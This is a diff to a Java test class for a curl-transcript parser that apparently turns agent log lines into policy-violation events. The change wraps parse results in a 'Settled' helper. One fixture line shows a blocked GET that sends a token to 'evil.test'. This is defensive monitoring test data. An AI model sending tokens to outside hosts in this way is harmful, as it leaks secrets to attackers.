@@ -8,6 +8,7 @@ import dev.knockwatch.events.Source;
 import dev.knockwatch.events.ViolationEvent;
 import dev.knockwatch.ingest.Parsed;
 import dev.knockwatch.ingest.Rejection;
+import dev.knockwatch.ingest.Settled;
 import dev.knockwatch.ingest.SourceLine;
 import java.io.IOException;
 import java.io.InputStream;
@@ -36,7 +37,7 @@ class CurlTranscriptParserTest {
     List<Parsed.Rejected> rejected = new ArrayList<>();
     long offset = 0;
     for (String line : text.split("\n", -1)) {
-      Parsed p = parser.parse(new SourceLine("agent-1/x.stderr.log", offset, line, "agent-1", commandIdInFileName, "h", NOW));
+      Parsed p = Settled.of(parser.parse(new SourceLine("agent-1/x.stderr.log", offset, line, "agent-1", commandIdInFileName, "h", NOW)), NOW);
       offset += line.getBytes(StandardCharsets.UTF_8).length + 1;
       if (p instanceof Parsed.Events ev) {
         events.addAll(ev.events());
@@ -139,7 +140,7 @@ class CurlTranscriptParserTest {
     List<ViolationEvent> events = new ArrayList<>();
     long off = 0;
     for (String line : List.of("> GET http://evil.test/x?token=abc HTTP/1.1", "< HTTP/1.1 403 Forbidden", "< X-Blocked-By: policy-7", "< ")) {
-      if (parser.parse(new SourceLine("a/x.curl.log", off++, line, "a", CMD, "h", NOW)) instanceof Parsed.Events ev) {
+      if (Settled.of(parser.parse(new SourceLine("a/x.curl.log", off++, line, "a", CMD, "h", NOW)), NOW) instanceof Parsed.Events ev) {
         events.addAll(ev.events());
       }
     }
